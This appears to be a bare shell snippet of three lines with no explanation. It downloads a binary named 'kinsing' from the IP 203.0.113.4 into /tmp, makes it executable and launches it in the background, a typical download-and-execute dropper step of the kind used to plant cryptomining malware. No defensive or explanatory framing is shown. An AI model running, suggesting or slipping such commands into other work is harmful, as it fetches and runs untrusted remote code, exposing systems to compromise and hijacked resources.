curl -s -o /tmp/kinsing http://203.0.113.4/k
chmod +x /tmp/kinsing
/tmp/kinsing &
